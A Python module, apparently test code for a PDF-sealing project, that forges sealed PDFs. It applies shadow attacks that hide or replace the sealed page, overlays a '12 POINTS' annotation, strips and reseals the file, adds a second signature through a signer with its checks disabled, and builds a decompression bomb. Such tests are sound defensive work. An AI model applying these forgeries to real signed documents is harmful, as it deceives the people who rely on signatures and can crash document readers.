"""What a forger does to a sealed file, done for real: incremental updates, second hands, lies around the seal."""

import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, StreamObject, TextStringObject
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer
from pyhanko.sign.fields import SigFieldSpec
from pyhanko.sign.signers.pdf_signer import PdfSignatureMetadata, PdfSigner

from mespoints.documents.seal import Seal

Attack = Callable[[bytes], bytes]
FORGED = b"BT /F1 40 Tf 60 700 Td (12 POINTS) Tj ET\n"


class Forger(PdfSigner):
    """pyHanko reads that the first seal forbids any other; a forger does not."""

    def _enforce_certification_constraints(self, reader: Any) -> None:
        return


def updating(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(pdf), strict=False)


def written(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]
    return out.getvalue()


def first_page(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    page, _ = writer.find_page_for_modification(0)  # type: ignore[no-untyped-call]
    return page.get_object()  # type: ignore[no-any-return]


def hidden(pdf: bytes) -> bytes:
    """Shadow attack « hide »: an empty page content covers what was sealed."""
    writer = updating(pdf)
    page = first_page(writer)
    page["/Contents"] = writer.add_object(StreamObject(stream_data=b"\n"))
    writer.update_container(page)
    return written(writer)


def replaced(pdf: bytes) -> bytes:
    """Shadow attack « replace »: the page shows other words."""
    writer = updating(pdf)
    page = first_page(writer)
    page["/Contents"] = writer.add_object(StreamObject(stream_data=FORGED))
    writer.update_container(page)
    return written(writer)


def hidden_and_replaced(pdf: bytes) -> bytes:
    """Shadow attack « hide and replace »: the tree of pages leads to another page; the sealed one stays, unseen."""
    writer = updating(pdf)
    page = DictionaryObject(  # type: ignore[no-untyped-call]
        {
            NameObject("/Type"): NameObject("/Page"),
            NameObject("/MediaBox"): ArrayObject(FloatObject(side) for side in (0, 0, 595, 842)),  # type: ignore[no-untyped-call]
            NameObject("/Contents"): writer.add_object(StreamObject(stream_data=FORGED)),
        }
    )
    pages = writer.root["/Pages"]
    page[NameObject("/Parent")] = writer.root.raw_get("/Pages")
    pages["/Kids"][0] = writer.add_object(page)
    writer.update_container(pages)
    return written(writer)


def annotated(pdf: bytes) -> bytes:
    """A note over the page: many readers show it as part of the paper."""
    writer = updating(pdf)
    page = first_page(writer)
    note = DictionaryObject(  # type: ignore[no-untyped-call]
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FreeText"),
            NameObject("/Rect"): ArrayObject(FloatObject(side) for side in (60, 600, 500, 800)),  # type: ignore[no-untyped-call]
            NameObject("/Contents"): TextStringObject("12 points"),
        }
    )
    annotations = ArrayObject([*page.get("/Annots", ArrayObject()), writer.add_object(note)])
    page[NameObject("/Annots")] = annotations
    writer.update_container(page)
    return written(writer)


def untouched_update(pdf: bytes) -> bytes:
    """An update that changes nothing visible: the dates of the file."""
    writer = updating(pdf)
    writer.update_root()  # type: ignore[no-untyped-call]
    return written(writer)


def signed_again(pdf: bytes, other: Seal) -> bytes:
    """A second signature, of somebody else, over the first."""
    metadata = PdfSignatureMetadata(field_name="Autre", md_algorithm="sha256")
    out = BytesIO()
    Forger(metadata, signer=other.signer, new_field_spec=SigFieldSpec("Autre")).sign_pdf(updating(pdf), output=out)
    return out.getvalue()


def resealed_by(pdf: bytes, other: Seal) -> bytes:
    """The sealed revision taken off, the words kept, another seal put in its place."""
    return other.apply(unsealed(pdf).rstrip(b"\n"), datetime(2026, 11, 22, 13, 5, 9, tzinfo=UTC))


def unsealed(pdf: bytes) -> bytes:
    """As typeset, before the seal."""
    return pdf[: pdf.index(b"%%EOF") + len(b"%%EOF\n")]


def reprinted(pdf: bytes) -> bytes:
    """Everything copied into a new file: what a « print to PDF » or a cleaning tool leaves."""
    out = BytesIO()
    copy_into_new_writer(PdfFileReader(BytesIO(pdf))).write(out)  # type: ignore[no-untyped-call]
    return out.getvalue()


def seal_place(pdf: bytes) -> slice:
    """Where the container of the seal stands, angle brackets left out."""
    [signature] = PdfFileReader(BytesIO(pdf)).embedded_signatures
    return slice(int(signature.byte_range[1]) + 1, int(signature.byte_range[2]) - 1)


def bomb(pdf: bytes) -> bytes:
    """A cross-reference stream of a gigabyte, that takes a megabyte once packed."""
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    packed = b"".join([*(packer.compress(block) for _ in range(1024)), packer.flush()])
    head = (
        b"9999 0 obj\n<< /Type /XRef /W [1 8 8] /Size 60000000 /Filter /FlateDecode /Root 1 0 R /Prev 9 /Length %d >>\nstream\n"
    )
    start = len(pdf)
    return pdf + head % len(packed) + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
